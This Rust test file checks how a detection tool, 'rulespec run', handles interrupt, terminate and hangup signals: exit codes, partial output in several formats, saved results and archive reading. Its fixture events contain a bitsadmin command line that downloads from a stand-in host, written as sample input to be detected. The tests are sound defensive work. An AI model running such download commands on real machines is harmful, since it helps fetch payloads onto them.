//! `rulespec run` and signals: what was found before is shown whole.

use std::fs::File;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use assert_cmd::cargo::cargo_bin;
use flate2::Compression;
use flate2::write::GzEncoder;
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value as Json, json};

/// The longest time from the signal to the end. It is a second if the machine is not busy.
const MAX_TIME: Duration = Duration::from_secs(5);

const INTERRUPTED: &str = "interrupted: only part of the input was read";

fn start(options: &[&str]) -> Child {
    let mut command = Command::new(cargo_bin("rulespec"));
    command.current_dir(rulespec_testing::files::ROOT).arg("run").args(options).env("COLUMNS", "120");
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()
}

fn send(child: &Child, signal: Signal) {
    kill_process(Pid::from_child(child), signal).unwrap();
}

/// What a process wrote, and its exit status. Fails if it takes too long.
fn end(mut child: Child) -> (String, String, Option<i32>) {
    let started = Instant::now();
    let (mut stdout, mut stderr) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    let stdout = thread::spawn(move || {
        let mut text = String::new();
        stdout.read_to_string(&mut text).unwrap();
        text
    });
    let mut errors = String::new();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > MAX_TIME {
            child.kill().unwrap();
            panic!("the process has not ended");
        }
        thread::sleep(Duration::from_millis(10));
    }
    stderr.read_to_string(&mut errors).unwrap();
    (stdout.join().unwrap(), errors, child.wait().unwrap().code())
}

/// A matching event, with its minute.
fn event(minute: u32) -> String {
    let time = format!("2026-01-02T03:{minute:02}:05Z");
    let line = format!("bitsadmin /transfer j http://files.example/{minute} C:\\a");
    let event = json!({"Timestamp": time, "DeviceName": "pc.corp", "FileName": "bitsadmin.exe",
        "ProcessId": minute, "ProcessCommandLine": line});
    format!("{event}\n")
}

/// Writes events to standard input, and waits until they must have been read: so many blank lines
/// follow that they do not fit in the pipe.
fn write_events(child: &mut Child, count: u32) {
    let stdin = child.stdin.as_mut().unwrap();
    (0..count).for_each(|minute| stdin.write_all(event(minute).as_bytes()).unwrap());
    stdin.write_all(&[b'\n'; 1 << 20]).unwrap();
}

fn make_fifo(folder: &Path) -> String {
    let path = folder.join("fifo");
    assert!(Command::new("mkfifo").arg(&path).status().unwrap().success());
    path.to_str().unwrap().to_owned()
}

#[test]
fn each_signal_ends_the_wait_for_a_silent_input() {
    let folder = tempfile::tempdir().unwrap();
    let fifo = make_fifo(folder.path());
    let mut writer = None;
    for (signal, status) in [(Signal::INT, 130), (Signal::TERM, 143), (Signal::HUP, 129)] {
        // Without a writer, opening a FIFO blocks. With one, reading does.
        for has_writer in [false, true] {
            for files in [&["-"][..], &[&fifo], &["--jobs", "2", &fifo, "-"]] {
                let child = start(&[&["--format", "json"], files].concat());
                if has_writer && files.contains(&&*fifo) {
                    writer = Some(File::options().write(true).open(&fifo).unwrap());
                }
                thread::sleep(Duration::from_millis(200));
                send(&child, signal);
                let (stdout, stderr, code) = end(child);
                assert_eq!((stdout.as_str(), code), ("[]\n", Some(status)), "{files:?} {stderr}");
                let inputs = files.iter().filter(|file| !["--jobs", "2"].contains(file)).count();
                let expected = format!(
                    "{INTERRUPTED}\nfiles     0 read; {inputs} not read to the end\nevents    0\nmatches   0\n"
                );
                assert_eq!(stderr, expected);
                drop(writer.take());
            }
        }
    }
}

#[test]
fn detections_before_a_signal_are_shown_whole() {
    for format in ["json", "jsonl", "csv", "table", "markdown"] {
        let mut child = start(&["--format", format, "-"]);
        write_events(&mut child, 3);
        send(&child, Signal::INT);
        let (stdout, stderr, code) = end(child);
        assert_eq!(code, Some(130), "{format}");
        assert!(stderr.starts_with(INTERRUPTED) && stderr.contains("matches   3"), "{stderr}");
        assert!(stdout.ends_with('\n'), "{stdout}");
        let count = match format {
            "json" => serde_json::from_str::<Vec<Json>>(&stdout).unwrap().len(),
            "jsonl" => {
                stdout.lines().filter(|line| serde_json::from_str::<Json>(line).unwrap().is_object()).count()
            }
            "csv" => csv::Reader::from_reader(stdout.as_bytes()).records().map(Result::unwrap).count(),
            "markdown" => stdout.matches("- remote: `http://files.example/").count(),
            _ => stdout.matches("http://files.example/").count(),
        };
        assert_eq!(count, 3, "{format}: {stdout}");
    }
}

#[test]
fn detections_before_a_signal_are_saved() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("found.json");
    std::fs::write(&path, "old").unwrap();
    let mut child = start(&["--format", "json", "-o", path.to_str().unwrap(), "-"]);
    write_events(&mut child, 3);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "old", "the file is replaced at the end");
    send(&child, Signal::INT);
    let (stdout, stderr, code) = end(child);
    assert_eq!((stdout.as_str(), code), ("", Some(130)), "{stderr}");
    let saved = std::fs::read_to_string(&path).unwrap();
    assert_eq!(serde_json::from_str::<Vec<Json>>(&saved).unwrap().len(), 3);
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 1);
}

#[test]
fn alerts_before_a_signal_are_shown() {
    for (quiet, summary) in [(&[][..], true), (&["-q"], false)] {
        let mut child = start(&[&["--alerts", "--format", "json", "-"], quiet].concat());
        write_events(&mut child, 3);
        send(&child, Signal::TERM);
        let (stdout, stderr, code) = end(child);
        assert_eq!(code, Some(143));
        assert!(stderr.starts_with(INTERRUPTED), "{stderr}");
        assert_eq!(stderr.contains("matches   3"), summary);
        let alerts: Vec<Json> = serde_json::from_str(&stdout).unwrap();
        assert_eq!((alerts.len(), &alerts[0]["results"]), (1, &json!(3)));
    }
}

/// The content of the archive takes long: it is as large as an archive of this size may be.
#[test]
fn a_signal_ends_the_reading_of_a_large_archive() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("large.gz");
    let mut archive = GzEncoder::new(File::create(&path).unwrap(), Compression::fast());
    archive.write_all(event(1).as_bytes()).unwrap();
    for _ in 0..200 {
        archive.write_all(&[b' '; 1 << 20]).unwrap();
    }
    archive.finish().unwrap();
    for jobs in ["1", "2"] {
        let mut child = start(&["--format", "jsonl", "--jobs", jobs, path.to_str().unwrap()]);
        let mut lines = BufReader::new(child.stdout.take().unwrap());
        let mut first = String::new();
        lines.read_line(&mut first).unwrap();
        assert!(first.contains("http://files.example/1"), "{first}");
        child.stdout = Some(lines.into_inner());
        send(&child, Signal::INT);
        let (rest, stderr, code) = end(child);
        assert_eq!((rest.as_str(), code), ("", Some(130)), "{stderr}");
        assert!(stderr.starts_with(INTERRUPTED), "{stderr}");
    }
}

/// What another thread has found in a later input counts as found.
#[test]
fn a_signal_shows_what_was_found_in_later_inputs() {
    let folder = tempfile::tempdir().unwrap();
    let (fifo, good) = (make_fifo(folder.path()), folder.path().join("good.jsonl"));
    std::fs::write(&good, event(1) + &event(2)).unwrap();
    let child = start(&["--format", "json", "--jobs", "2", &fifo, good.to_str().unwrap()]);
    thread::sleep(Duration::from_secs(1));
    send(&child, Signal::INT);
    let (stdout, stderr, code) = end(child);
    assert_eq!(code, Some(130));
    assert_eq!(serde_json::from_str::<Vec<Json>>(&stdout).unwrap().len(), 2, "{stderr}");
    assert!(stderr.contains("files     1 read; 1 not read to the end\n"), "{stderr}");
}

/// The first signal waits until the output can be written; the second does not.
#[test]
fn a_second_signal_exits_at_once() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("many.jsonl");
    std::fs::write(&path, event(1).repeat(2_000)).unwrap();
    let mut child = start(&["--format", "jsonl", path.to_str().unwrap()]);
    let stdout = child.stdout.take().unwrap();
    let mut before = 0;
    loop {
        thread::sleep(Duration::from_millis(300));
        let waiting = rustix::io::ioctl_fionread(&stdout).unwrap();
        if waiting > 0 && waiting == before {
            break;
        }
        before = waiting;
    }
    send(&child, Signal::INT);
    thread::sleep(Duration::from_millis(300));
    assert_eq!(child.try_wait().unwrap(), None);
    send(&child, Signal::INT);
    let started = Instant::now();
    assert_eq!(child.wait().unwrap().code(), Some(130));
    assert!(started.elapsed() < MAX_TIME);
}
